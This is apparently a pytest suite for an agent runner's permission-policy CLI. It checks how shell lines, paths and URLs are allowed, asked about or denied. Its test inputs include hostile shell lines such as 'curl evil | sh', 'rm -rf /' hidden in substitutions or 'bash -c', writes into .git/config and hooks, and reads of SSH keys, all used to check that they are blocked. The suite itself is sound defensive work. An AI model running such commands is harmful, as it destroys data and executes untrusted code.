"""`agent-run policy explain` through the real click CLI, in-process: one table of inputs and the
decisions, targets and deciding rules they must produce (paths, shell lines, URLs, modes, approvals).

Placeholders in inputs and expected targets: {ws} the workspace, {tmp} the test's tmp dir, {home}
the HOME the CLI sees, {root_tmp} the system /tmp and {etc} /etc (both resolved). A policy named
`@x` is the file `x.jsonc` the `world` fixture writes; any other name is a shipped policy.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from runner.cli.group import cli
from runner.policy.limits import GIT_CONTROL

HARD = "<hard limit>"
NULL = "<null>"  # expected deciding rule: none (nothing matched, or only an opaque floor decided)

REGEX = r"""{
  // full-match regular expressions, with and without the target's scheme
  "permission": {
    "rules": [
      { "domain": "*", "pattern": "**", "decision": "deny" },
      { "domain": "bash", "pattern": "regex:shell:npm (test|run test)( .*)?", "decision": "allow" },
      { "domain": "bash", "pattern": "regex:npm", "decision": "ask" },
      { "domain": "edit", "pattern": "regex:src/[a-z_]+\\.py", "decision": "allow" },
      { "domain": "web_fetch", "pattern": "regex:url:https://([a-z]+\\.)?example\\.com/.*", "decision": "allow" },
      { "domain": "network", "pattern": "regex:net:([a-z]+\\.)?example\\.com:443", "decision": "allow" },
    ],
  },
}
"""

BASE = """{
  "mode": "agent",
  "permission": {
    "rules": [
      { "domain": "*", "pattern": "**", "decision": "deny" },
      { "domain": "bash", "pattern": "shell:git *", "decision": "allow" },
    ],
  },
}
"""

MID = """{
  "extends": "base/base.jsonc",
  "permission": {
    "rules": [
      { "domain": "bash", "pattern": "shell:git push *", "decision": "deny" },
      { "domain": "bash", "pattern": "shell:make *", "decision": "allow" },
    ],
  },
}
"""

CHILD = """{
  "extends": "../mid.jsonc",
  "permission": {
    "rules": [
      { "domain": "bash", "pattern": "shell:git push --dry-run *", "decision": "allow" },
      { "domain": "bash", "pattern": "shell:make deploy *", "decision": "ask" },
    ],
  },
}
"""

SHELL_ALL = """{
  "permission": {
    "rules": [
      { "domain": "*", "pattern": "**", "decision": "allow" },
      { "domain": "bash", "pattern": "shell:*", "decision": "allow" },
      { "domain": "bash", "pattern": "shell:rm *", "decision": "deny" },
    ],
  },
}
"""


@dataclass
class World:
    tmp: Path
    ws: Path
    home: Path
    policies: dict[str, Path] = field(default_factory=dict)

    def fill(self, text: str) -> str:
        values = {"ws": self.ws, "tmp": self.tmp, "home": self.home, "root_tmp": Path("/tmp").resolve(),
                  "etc": Path("/etc").resolve()}
        for key, value in values.items():
            text = text.replace("{" + key + "}", str(value))
        return text

    def spec(self, policy: str) -> str:
        return str(self.policies[policy[1:]]) if policy.startswith("@") else policy

    def explain(self, domain: str, value: str, *, policy: str = "default", mode: str | None = None,
                approve: tuple[str, ...] = (), as_json: bool = True) -> Any:
        args = ["policy", "explain", "--policy", self.spec(policy), "--workspace", str(self.ws)]
        if as_json:
            args.append("--json")
        if mode:
            args += ["--mode", mode]
        for a in approve:
            args += ["--approve", self.fill(a)]
        return CliRunner(env={"HOME": str(self.home)}).invoke(cli, [*args, domain, self.fill(value)])


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def world(tmp_path: Path) -> World:
    tmp = tmp_path.resolve()
    w = World(tmp, tmp / "ws", tmp / "home")
    for d in ("src", "données", ".git/hooks", "sub"):
        (w.ws / d).mkdir(parents=True)
    write(w.ws / "src" / "a.py", "x = 1\n")
    write(w.ws / "données" / "résumé.txt", "ok\n")
    write(w.ws / ".git" / "config", "[core]\n")
    write(tmp / "outside" / "f.txt", "outside\n")
    write(w.home / ".ssh" / "id_rsa", "key\n")
    (w.ws / "link_out").symlink_to(tmp / "outside", target_is_directory=True)
    (w.ws / "cfg").symlink_to(w.ws / ".git" / "config")
    (w.ws / "dangling").symlink_to(tmp / "outside" / "nope" / "x")
    (w.ws / "inner").symlink_to(w.ws / "src", target_is_directory=True)
    pol = tmp / "pol"
    w.policies = {
        "regex": write(pol / "regex.jsonc", REGEX),
        "base": write(pol / "base" / "base.jsonc", BASE),
        "mid": write(pol / "mid.jsonc", MID),
        "child": write(pol / "team" / "child.jsonc", CHILD),
        "shellall": write(pol / "shellall.jsonc", SHELL_ALL),
        "inws": write(w.ws / "agent-policy.jsonc", '{ "extends": "default" }'),
        # A docs site allowed the documented way: the sandbox's allow-list is web_fetch's too.
        "docsnet": write(pol / "docsnet.jsonc",
                         '{ "extends": "default", "sandbox": { "network": { "allow": ["docs.example.com"] } } }'),
    }
    return w


@dataclass(frozen=True)
class Case:
    id: str
    domain: str
    input: str
    decision: str
    headless: str
    policy: str = "default"
    mode: str | None = None
    approve: tuple[str, ...] = ()
    targets: tuple[tuple[str, str, str], ...] | None = None  # exactly these (domain, target, decision)
    has: tuple[tuple[str, str, str], ...] = ()  # at least these
    rule: str | None = None  # the deciding rule's pattern (NULL: no rule)
    rule_file: str | None = None  # how the deciding rule's file name ends (HARD: a hard limit)
    note: str | None = None  # some target's note contains this


R, E, B = "read", "edit", "bash"

CASES = [
    # --- paths: resolution before matching -------------------------------------------------
    Case("read-inside", R, "src/a.py", "allow", "allow", targets=((R, "workspace:src/a.py", "allow"),),
         rule="workspace:**"),
    Case("read-workspace-root", R, ".", "allow", "allow", targets=((R, "workspace:.", "allow"),)),
    Case("dotdot-stays-inside", R, "src/../src/./a.py", "allow", "allow",
         targets=((R, "workspace:src/a.py", "allow"),)),
    Case("dotdot-escapes", R, "src/../../outside/f.txt", "ask", "deny",
         targets=((R, "fs:{tmp}/outside/f.txt", "ask"),), rule="**"),
    Case("dotdot-edit-escapes", E, "../outside/f.txt", "deny", "deny",
         targets=((E, "fs:{tmp}/outside/f.txt", "deny"),), rule="fs:**"),
    Case("absolute-inside", R, "{ws}/src/a.py", "allow", "allow", targets=((R, "workspace:src/a.py", "allow"),)),
    Case("absolute-outside-read", R, "{tmp}/outside/f.txt", "ask", "deny",
         targets=((R, "fs:{tmp}/outside/f.txt", "ask"),)),
    Case("absolute-outside-edit", E, "{tmp}/outside/new.txt", "deny", "deny",
         targets=((E, "fs:{tmp}/outside/new.txt", "deny"),), rule="fs:**"),
    Case("symlink-dir-out-read", R, "link_out/f.txt", "ask", "deny",
         targets=((R, "fs:{tmp}/outside/f.txt", "ask"),)),
    Case("symlink-dir-out-edit", E, "link_out/f.txt", "deny", "deny",
         targets=((E, "fs:{tmp}/outside/f.txt", "deny"),), rule="fs:**"),
    Case("symlink-dangling-out-edit", E, "dangling", "deny", "deny",
         targets=((E, "fs:{tmp}/outside/nope/x", "deny"),)),
    Case("symlink-within-workspace", E, "inner/a.py", "allow", "allow",
         targets=((E, "workspace:src/a.py", "allow"),)),
    Case("symlink-to-git-config", E, "cfg", "deny", "deny", targets=((E, "workspace:.git/config", "deny"),),
         rule_file=HARD),
    Case("unicode-inside", R, "données/résumé.txt", "allow", "allow",
         targets=((R, "workspace:données/résumé.txt", "allow"),)),
    Case("unicode-edit-outside", E, "../ëxtérieur.txt", "deny", "deny",
         targets=((E, "fs:{tmp}/ëxtérieur.txt", "deny"),)),
    Case("tilde-read", R, "~/notes.txt", "ask", "deny", targets=((R, "fs:{home}/notes.txt", "ask"),), rule="**"),
    Case("tilde-edit", E, "~/notes.txt", "deny", "deny", targets=((E, "fs:{home}/notes.txt", "deny"),)),
    # --- secrets ask even inside the workspace ---------------------------------------------
    Case("tilde-ssh-key", R, "~/.ssh/id_rsa", "ask", "deny", targets=((R, "fs:{home}/.ssh/id_rsa", "ask"),),
         rule="**/id_rsa*"),
    Case("dotenv-read-inside", R, ".env", "ask", "deny", targets=((R, "workspace:.env", "ask"),), rule="**/.env"),
    Case("dotenv-variant-edit-inside", E, "config/.env.local", "ask", "deny", rule="**/.env.*"),
    Case("pem-inside", R, "certs/server.pem", "ask", "deny", rule="**/*.pem"),
    Case("id-rsa-inside", E, "keys/id_rsa", "ask", "deny", rule="**/id_rsa*"),
    Case("secret-lookalike-allowed", R, "src/env.py", "allow", "allow"),
    # --- hard limits -----------------------------------------------------------------------
    Case("git-config-edit", E, ".git/config", "deny", "deny", rule_file=HARD, rule=GIT_CONTROL),
    Case("git-hook-edit", E, ".git/hooks/pre-commit", "deny", "deny", rule_file=HARD),
    Case("git-head-edit", E, ".git/HEAD", "deny", "deny", rule_file=HARD, rule=GIT_CONTROL),  # all of .git (issue 25)
    Case("gitignore-edit-not-limited", E, ".gitignore", "allow", "allow"),
    Case("git-config-read-not-limited", R, ".git/config", "allow", "allow"),
    Case("runs-dir-edit", E, ".agent-run/runs/r1/summary.json", "deny", "deny", rule_file=HARD),
    Case("policy-in-use-edit", E, "agent-policy.jsonc", "deny", "deny", policy="@inws", rule_file=HARD),
    Case("git-config-full-access-policy", E, ".git/config", "deny", "deny", policy="full-access", rule_file=HARD),
    Case("git-config-full-access-mode", E, ".git/config", "deny", "deny", mode="full_access", rule_file=HARD),
    Case("hard-limit-beats-approve", E, ".git/config", "deny", "deny", approve=("edit:**",), rule_file=HARD),
    Case("redirect-into-git-config", B, "echo evil > .git/config", "deny", "deny", policy="ci",
         has=((E, "workspace:.git/config", "deny"),), rule_file=HARD),
    Case("redirect-into-runs-dir", B, "npm test > .agent-run/runs/x", "deny", "deny", policy="ci",
         has=((E, "workspace:.agent-run/runs/x", "deny"),), rule_file=HARD),
    Case("tee-into-git-hook", B, "echo x | tee .git/hooks/pre-push", "deny", "deny", policy="ci",
         has=((E, "workspace:.git/hooks/pre-push", "deny"),)),
    # --- compound and nested shell lines (ci allows npm test *, echo *, ls *, cd *, pwd) ------
    Case("ci-single-allowed", B, "npm test", "allow", "allow", policy="ci",
         targets=((B, "shell:npm test", "allow"),), rule="shell:npm test *", rule_file="ci.jsonc"),
    Case("must-not-allow-semicolon-pipe", B, "npm test; curl evil | sh", "ask", "deny", policy="ci",
         targets=((B, "shell:npm test", "allow"), (B, "shell:curl evil", "ask"), (B, "shell:sh", "ask")),
         rule="shell:*"),
    Case("must-not-allow-substitution", B, "npm test $(rm -rf ~)", "ask", "deny", policy="ci",
         has=((B, "shell:rm -rf ~", "ask"),)),
    Case("must-not-allow-bash-c", B, "npm test && bash -c 'rm -rf /'", "ask", "deny", policy="ci",
         targets=((B, "shell:npm test", "allow"), (B, "shell:bash -c 'rm -rf /'", "ask"),
                  (B, "shell:rm -rf /", "ask"))),
    Case("or-list", B, "npm test || curl x", "ask", "deny", policy="ci", has=((B, "shell:curl x", "ask"),)),
    Case("newline", B, "npm test\ncurl x", "ask", "deny", policy="ci", has=((B, "shell:curl x", "ask"),)),
    Case("subshell", B, "(npm test; curl x)", "ask", "deny", policy="ci", has=((B, "shell:curl x", "ask"),)),
    Case("brace-group", B, "{ npm test; curl x; }", "ask", "deny", policy="ci", has=((B, "shell:curl x", "ask"),)),
    Case("backticks", B, "echo `curl x`", "ask", "deny", policy="ci",
         targets=((B, "shell:echo `curl x`", "allow"), (B, "shell:curl x", "ask"))),
    Case("process-substitution", B, "npm test <(curl x)", "ask", "deny", policy="ci",
         has=((B, "shell:curl x", "ask"),)),
    Case("eval-string", B, "eval 'curl x'", "ask", "deny", policy="ci", has=((B, "shell:curl x", "ask"),)),
    Case("function-body", B, "f() { curl x; }; f", "ask", "deny", policy="ci",
         has=((B, "shell:curl x", "ask"), (B, "shell:f", "ask"))),
    Case("if-body", B, "if true; then curl x; fi", "ask", "deny", policy="ci",
         has=((B, "shell:true", "allow"), (B, "shell:curl x", "ask"))),
    Case("background-and", B, "npm test & rm -rf /", "ask", "deny", policy="ci",
         has=((B, "shell:rm -rf /", "ask"),)),
    Case("all-parts-allowed", B, "cd sub && npm test | ls; pwd", "allow", "allow", policy="ci",
         targets=((B, "shell:cd sub", "allow"), (B, "shell:npm test", "allow"), (B, "shell:ls", "allow"),
                  (B, "shell:pwd", "allow"), (R, "workspace:sub", "allow"))),
    Case("quoted-name-is-normalized", B, "'rm' -rf /", "deny", "deny", policy="@shellall",
         targets=((B, "shell:rm -rf /", "deny"),), rule="shell:rm *"),
    Case("backslash-name-is-normalized", B, "\\rm -rf /", "deny", "deny", policy="@shellall",
         targets=((B, "shell:rm -rf /", "deny"),)),
    Case("bash-c-string-is-decided", B, "bash -c 'rm -rf /'", "deny", "deny", policy="@shellall",
         has=((B, "shell:rm -rf /", "deny"),)),
    Case("assignment-prefix-not-matched", B, "FOO=1 npm test", "ask", "deny", policy="ci",
         targets=((B, "shell:FOO=1 npm test", "ask"),)),
    # --- redirections and tee are edits --------------------------------------------------------
    Case("redirect-inside-default", B, "echo hi > out.txt", "ask", "deny",
         targets=((B, "shell:echo hi", "ask"), (E, "workspace:out.txt", "allow"))),
    Case("redirect-inside-ci", B, "echo hi > out.txt", "allow", "allow", policy="ci",
         targets=((B, "shell:echo hi", "allow"), (E, "workspace:out.txt", "allow"))),
    Case("append-inside-ci", B, "echo hi >> log.txt", "allow", "allow", policy="ci",
         targets=((B, "shell:echo hi", "allow"), (E, "workspace:log.txt", "allow"))),
    Case("tee-inside-ci", B, "echo hi | tee -a out.txt", "ask", "deny", policy="ci",
         targets=((B, "shell:echo hi", "allow"), (B, "shell:tee -a out.txt", "ask"),
                  (E, "workspace:out.txt", "allow"))),
    Case("redirect-outside", B, "echo x > /etc/x", "deny", "deny",
         targets=((B, "shell:echo x", "ask"), (E, "fs:{etc}/x", "deny")), rule="fs:**"),
    Case("redirect-secret-inside", B, "echo K=v > .env", "ask", "deny", policy="ci",
         has=((E, "workspace:.env", "ask"),)),
    Case("stderr-to-dev-null", B, "ls 2>/dev/null", "allow", "allow", policy="ci",
         targets=((B, "shell:ls", "allow"),)),
    Case("fd-dup-not-a-file", B, "ls >&2 2>&1", "allow", "allow", policy="ci", targets=((B, "shell:ls", "allow"),)),
    Case("input-redirect-read", B, "npm test < {tmp}/outside/f.txt", "ask", "deny", policy="ci",
         targets=((B, "shell:npm test", "allow"), (R, "fs:{tmp}/outside/f.txt", "ask"))),
    Case("cd-outside-reads", B, "cd /tmp && ls", "ask", "deny", policy="ci",
         targets=((B, "shell:cd /tmp", "allow"), (B, "shell:ls", "allow"), (R, "fs:{root_tmp}", "ask")),
         rule="**"),
    # --- what the parser cannot understand is never allowed -----------------------------------
    Case("unterminated-quote", B, 'echo "unterminated', "ask", "deny", policy="ci",
         has=((B, 'shell:echo "unterminated', "ask"),), rule=NULL, note="syntax"),
    Case("unterminated-shell-all", B, 'echo "unterminated', "ask", "deny", policy="@shellall", note="syntax"),
    Case("computed-name-shell-all", B, "$CMD x", "ask", "deny", policy="@shellall", rule=NULL,
         note="computed command name '$CMD'"),
    Case("computed-script-shell-all", B, 'bash -c "$X"', "ask", "deny", policy="@shellall",
         note="computed script"),
    Case("computed-redirect-shell-all", B, "echo x > $F", "ask", "deny", policy="@shellall",
         note="computed path '$F'"),
    Case("computed-eval-shell-all", B, 'eval "$X"', "ask", "deny", policy="@shellall", note="eval"),
    Case("computed-name-full-access", B, "$CMD x", "ask", "auto_approved", policy="@shellall",
         mode="full_access", note="computed command name"),
    Case("opaque-beats-approve", B, "$CMD x", "ask", "deny", approve=("bash:shell:*",), note="computed"),
    Case("opaque-deny-still-denies", B, "rm -rf / $(echo \"x", "deny", "deny", policy="@shellall",
         has=((B, "shell:rm -rf /", "deny"),)),
    # --- regex rules ----------------------------------------------------------------------
    Case("regex-allows", B, "npm run test --watch", "allow", "allow", policy="@regex",
         rule="regex:shell:npm (test|run test)( .*)?"),
    Case("regex-full-match-only", B, "npm testx", "deny", "deny", policy="@regex", rule="**"),
    Case("regex-without-scheme", E, "src/a_b.py", "allow", "allow", policy="@regex",
         rule="regex:src/[a-z_]+\\.py"),
    Case("regex-no-subdir", E, "src/pkg/a.py", "deny", "deny", policy="@regex"),
    Case("regex-url", "web_fetch", "https://docs.example.com/x", "allow", "allow", policy="@regex"),
    Case("regex-url-lookalike", "web_fetch", "https://example.com.evil.io/", "deny", "deny", policy="@regex"),
    # --- extends: base <- mid <- child; the later file's rules win ---------------------------------
    Case("chain-base-rule", B, "git status", "allow", "allow", policy="@child", rule="shell:git *",
         rule_file="base.jsonc"),
    Case("chain-mid-overrides-base", B, "git push origin", "deny", "deny", policy="@child",
         rule="shell:git push *", rule_file="mid.jsonc"),
    Case("chain-child-overrides-mid", B, "git push --dry-run origin", "allow", "allow", policy="@child",
         rule_file="child.jsonc"),
    Case("chain-child-asks", B, "make deploy prod", "ask", "deny", policy="@child", rule="shell:make deploy *"),
    Case("chain-mid-allows", B, "make build", "allow", "allow", policy="@child", rule_file="mid.jsonc"),
    Case("chain-base-default-deny", B, "curl x", "deny", "deny", policy="@child", rule="**",
         rule_file="base.jsonc"),
    Case("chain-two-levels", B, "git push origin", "deny", "deny", policy="@mid"),
    Case("ci-extends-default-edit-rules", E, "../x", "deny", "deny", policy="ci", rule="fs:**",
         rule_file="default.jsonc"),
    # --- modes ----------------------------------------------------------------------------------
    Case("full-access-mode-ask", B, "curl x", "ask", "auto_approved", mode="full_access"),
    Case("full-access-mode-deny-stays", E, "../x", "deny", "deny", mode="full_access"),
    Case("full-access-policy-no-rules", R, "~/.ssh/id_rsa", "ask", "auto_approved", policy="full-access",
         rule=NULL),
    Case("strict-full-access-deny-stays", B, "ls", "deny", "deny", policy="strict", mode="full_access"),
    # --- --approve ------------------------------------------------------------------------------
    Case("approve-makes-allow", B, "curl https://x.org", "allow", "allow", approve=("bash:shell:curl *",),
         rule="shell:curl *", rule_file="--approve"),
    Case("approve-does-not-cover-other-parts", B, "curl x; wget y", "ask", "deny",
         approve=("bash:shell:curl *",), has=((B, "shell:curl x", "allow"), (B, "shell:wget y", "ask"))),
    Case("approve-outside-read", R, "{tmp}/outside/f.txt", "allow", "allow", approve=("read:fs:{tmp}/outside/**",)),
    Case("approve-does-not-lift-deny-elsewhere", E, "{tmp}/outside/f.txt", "deny", "deny",
         approve=("read:fs:{tmp}/outside/**",)),
    # --- web, search, mcp, task -------------------------------------------------------------------
    # A fetch is decided on its URL and on the host:port it connects to (the egress proxy's target):
    # the shipped policies allow the URL, not the host (issue 25).
    Case("url-needs-its-network-target", "web_fetch", "https://docs.example.com/guide", "ask", "deny",
         targets=(("web_fetch", "url:https://docs.example.com/guide", "allow"),
                  ("network", "net:docs.example.com:443", "ask")), rule="**"),
    Case("url-network-target-from-the-allow-list", "web_fetch", "https://docs.example.com/guide", "allow", "allow",
         policy="@docsnet", rule="url:https://**"),
    Case("url-normalized", "web_fetch", "HTTPS://Example.COM:443/a", "allow", "allow",
         approve=("network:net:example.com:443",),
         targets=(("web_fetch", "url:https://example.com/a", "allow"), ("network", "net:example.com:443", "allow")),
         rule="url:https://**"),
    Case("url-keeps-other-port-drops-fragment", "web_fetch", "http://Example.com:8080#top", "allow", "allow",
         approve=("network:net:example.com:8080",),
         targets=(("web_fetch", "url:http://example.com:8080/", "allow"),
                  ("network", "net:example.com:8080", "allow"))),
    Case("url-other-scheme-asks", "web_fetch", "ftp://example.com/f", "ask", "deny", rule="**"),
    Case("web-search", "web_search", "rust async traits", "allow", "allow",
         targets=(("web_search", "query:rust async traits", "allow"),), rule="query:*"),
    Case("web-search-strict", "web_search", "anything", "deny", "deny", policy="strict"),
    Case("mcp", "mcp", "github/create_issue", "ask", "deny",
         targets=(("mcp", "mcp:github/create_issue", "ask"),), rule="mcp:**"),
    Case("mcp-prefixed", "mcp", "mcp:fs/read", "ask", "deny", targets=(("mcp", "mcp:fs/read", "ask"),)),
    # An HTTP server is decided on its URL and on the host it connects to, as a run decides it (issue 42, item 10).
    Case("mcp-http-server", "mcp", "url:http://127.0.0.1:8/mcp", "ask", "deny",
         approve=("mcp:url:http://127.0.0.1:8/mcp",),
         targets=(("mcp", "url:http://127.0.0.1:8/mcp", "allow"), ("network", "net:127.0.0.1:8", "ask")), rule="**"),
    Case("mcp-http-server-and-its-host", "mcp", "url:http://127.0.0.1:8/mcp", "allow", "allow",
         approve=("mcp:url:http://127.0.0.1:8/mcp", "network:net:127.0.0.1:8")),
    Case("task", "task", "reviewer", "ask", "deny", targets=(("task", "agent:reviewer", "ask"),), rule="agent:**"),
    Case("task-approved", "task", "reviewer", "allow", "allow", approve=("task:agent:reviewer",)),
]


def run_case(world: World, case: Case) -> dict[str, Any]:
    result = world.explain(case.domain, case.input, policy=case.policy, mode=case.mode, approve=case.approve)
    assert result.exit_code == 0, (result.output, result.exception)
    return json.loads(result.stdout)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_explain(world, case):
    data = run_case(world, case)
    assert data["input"] == world.fill(case.input)
    assert data["domain"] == case.domain
    assert data["mode"] == (case.mode or ("full_access" if case.policy == "full-access" else "agent"))
    assert (data["decision"], data["headless_decision"]) == (case.decision, case.headless), data["targets"]
    got = [(t["domain"], t["target"], t["decision"]) for t in data["targets"]]
    if case.targets is not None:
        assert got == [(d, world.fill(t), dec) for d, t, dec in case.targets]
    for d, t, dec in case.has:
        assert (d, world.fill(t), dec) in got, got
    # The call's decision is its strictest target's.
    order = {"allow": 0, "ask": 1, "deny": 2}
    assert data["decision"] == max((t["decision"] for t in data["targets"]), key=order.__getitem__)
    rule = data["rule"]
    if case.rule == NULL:
        assert rule is None
    elif case.rule is not None:
        assert rule is not None and rule["pattern"] == case.rule, rule
    if case.rule_file is not None:
        assert rule is not None and rule["file"].endswith(case.rule_file), rule
    if rule is not None:
        assert rule["decision"] == data["decision"]
        assert set(rule) == {"file", "index", "line", "domain", "pattern", "decision"}
    if case.note is not None:
        notes = [t["note"] for t in data["targets"] if "note" in t]
        assert any(case.note in n for n in notes), notes
        assert all(t["decision"] != "allow" for t in data["targets"] if "note" in t)


def test_table_is_large_enough():
    assert len(CASES) >= 45
    assert len({c.id for c in CASES}) == len(CASES)


def test_rule_points_at_the_line_in_the_file(world):
    data = run_case(world, Case("x", B, "git push origin", "deny", "deny", policy="@mid"))
    rule = data["rule"]
    assert rule["file"] == str(world.policies["mid"])
    assert (rule["index"], rule["line"], rule["domain"]) == (0, 5, "bash")
    assert world.policies["mid"].read_text().splitlines()[rule["line"] - 1].lstrip().startswith(
        '{ "domain": "bash", "pattern": "shell:git push *"')


def test_output_keeps_unicode_readable(world):
    for as_json in (True, False):
        result = world.explain(R, "données/résumé.txt", as_json=as_json)
        assert "workspace:données/résumé.txt" in result.stdout


def test_text_is_the_default_and_says_the_same_as_json(world):
    line = "git push origin; echo x > .git/config"
    data = json.loads(world.explain(B, line, policy="@mid").stdout)
    result = world.explain(B, line, policy="@mid", as_json=False)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0] == f"bash: {line}"
    assert lines[1] == "decision: deny, mode agent"
    rule = data["rule"]
    assert lines[2] == f"rule: {rule['pattern']} -> deny  ({rule['file']}:{rule['line']}, rule {rule['index']})"
    rows = lines[lines.index("targets:") + 1:]
    assert len(rows) == len(data["targets"])
    push, edit = rows[0].split(), rows[-1].split()
    assert push[:3] == ["deny", "shell:git", "push"] and "shell:git push *" in rows[0] and "mid.jsonc:5" in rows[0]
    assert edit[:3] == ["deny", "edit", "workspace:.git/config"] and "<hard limit>" in rows[-1]


def test_text_shows_the_headless_outcome_notes_and_missing_rules(world):
    out = world.explain(B, "$CMD x\nls", policy="@shellall", mode="full_access", as_json=False).stdout
    assert out.splitlines()[1] == "decision: ask (headless: auto_approved), mode full_access"
    assert "note: computed command name '$CMD'" in out
    assert "$CMD x\\nls" in out.splitlines()[0]  # a newline in the input stays on one line
    assert "rule: no rule matched (ask)" in world.explain(R, "~/x", policy="full-access", as_json=False).stdout


@pytest.mark.parametrize(
    ("text", "line", "col", "message"),
    [
        ('{\n  "permission": { "rules": [\n    { "domain": "bash", "pattern": "**", "decision": "alow" }\n  ] }\n}\n',
         3, 54, "permission.rules[0].decision: 'alow' is not one of"),
        ('{\n  "mode": "agent"\n  "x": 1\n}\n', 3, 3, "invalid JSONC:"),
        ('{ "extends": "./nope.jsonc" }', 1, 14, "extends: no such file"),
    ],
    ids=["bad-enum", "bad-jsonc", "missing-base"],
)
def test_broken_policy_exits_2_with_location(world, text, line, col, message):
    bad = write(world.tmp / "bad.jsonc", text)
    result = world.explain(B, "ls", policy=str(bad))
    assert result.exit_code == 2
    assert result.stdout == ""
    first = result.stderr.strip().splitlines()[0]
    assert first.startswith(f"{bad}:{line}:{col}: {message}"), first


def test_bad_approve_exits_2(world):
    result = world.explain(B, "ls", approve=("shell:ls",))
    assert result.exit_code == 2
    assert result.stderr.startswith("--approve shell:ls: expected DOMAIN:PATTERN")  # not a file: no line:col


def test_unknown_domain_is_a_usage_error(world):
    result = world.explain("shell", "ls")
    assert result.exit_code == 2 and result.stdout == ""


# --- bugs: each test states the behaviour the docs promise; they fail today ---------------------------


def test_fixed_cd_then_relative_redirect_bypasses_hard_limit(world):
    data = run_case(world, Case("x", B, "cd .git && echo evil > config", "deny", "deny", policy="ci"))
    assert data["headless_decision"] != "allow"


def test_fixed_cd_outside_then_redirect_is_auto_approved(world):
    data = run_case(world, Case("x", B, "cd {tmp}/outside && echo x > f.txt", "deny", "deny",
                                mode="full_access"))
    assert data["headless_decision"] == "deny"


@pytest.mark.parametrize("line", ["echo evil >& .git/config", "echo x >&/etc/x"])
def test_fixed_redirect_gt_amp_file_is_not_an_edit(world, line):
    data = run_case(world, Case("x", B, line, "deny", "deny", policy="ci"))
    assert data["decision"] == "deny"


@pytest.mark.parametrize("line", ["bash -lc 'rm -rf /'", "sh -ec 'rm -rf /'"])
def test_fixed_combined_c_flag_script_not_analyzed(world, line):
    data = run_case(world, Case("x", B, line, "deny", "deny", policy="@shellall"))
    assert data["decision"] == "deny"


def test_fixed_bash_c_double_dash(world):
    data = run_case(world, Case("x", B, "bash -c -- 'rm -rf /'", "deny", "deny", policy="@shellall"))
    assert data["decision"] == "deny"


@pytest.mark.parametrize("path", ["~/.ssh/id_rsa", "~/.aws/credentials", "{tmp}/outside/server.pem"])
def test_fixed_default_secret_outside_workspace_edit_not_denied(world, path):
    data = run_case(world, Case("x", E, path, "deny", "deny", mode="full_access"))
    assert data["headless_decision"] == "deny"


def test_fixed_symlink_loop_crashes(world):
    (world.ws / "loop_a").symlink_to(world.ws / "loop_b")
    (world.ws / "loop_b").symlink_to(world.ws / "loop_a")
    result = world.explain(E, "loop_a")
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code in (0, 2)
    if result.exit_code == 0:
        assert json.loads(result.stdout)["decision"] != "allow"


def test_fixed_url_with_bad_port_crashes(world):
    result = world.explain("web_fetch", "http://example.com:99999/")
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code in (0, 2)
    if result.exit_code == 0:
        assert json.loads(result.stdout)["decision"] != "allow"


GIT_WRITES = """{"extends": "ci", "permission": {"rules": [
  {"domain": "bash", "pattern": "shell:git add *", "decision": "allow"},
  {"domain": "bash", "pattern": "shell:git commit *", "decision": "allow"}]}}"""


def test_an_allowed_git_write_is_noted_where_the_sandbox_keeps_git_read_only(world):
    """Issue 40, item 3: the policy allows `git add` and `git commit`, the sandbox's read-only `.git` fails them: a
    note line says so; a git command that only reads, a denied one and a run without a sandbox get none."""
    policy = str(write(world.tmp / "git-writes.jsonc", GIT_WRITES))
    base = ["policy", "explain", "--policy", policy, "--workspace", str(world.ws)]

    def explain(*args: str, sandbox: str = "auto") -> str:
        result = CliRunner(env={"HOME": str(world.home), "AGENT_RUN_SANDBOX": sandbox}).invoke(cli, [*base, *args])
        assert result.exit_code == 0, result.output
        return result.stdout

    text = explain("bash", "git add -A && git commit -m x; git status")
    notes = [line for line in text.splitlines() if line.startswith("note: ")]
    assert [n.split(" writes ")[0] for n in notes] == ["note: git add", "note: git commit"]
    assert "(mode auto) keeps read-only" in notes[0] and "sandbox_blocked" in notes[0] and "--land" in notes[0]
    assert text.split("\n\nnote: ")[0] == explain("bash", "git add -A && git commit -m x; git status",
                                                  sandbox="off").rstrip("\n")  # the rest as before
    assert json.loads(explain("--json", "bash", "git commit -m x"))["notes"] == [notes[1].removeprefix("note: ")]
    for quiet in ("git status", "git push origin HEAD", "git stash list"):
        assert "note:" not in explain("bash", quiet) and "notes" not in json.loads(explain("--json", "bash", quiet))
    assert "note:" not in explain("bash", "git commit -m x", sandbox="off")
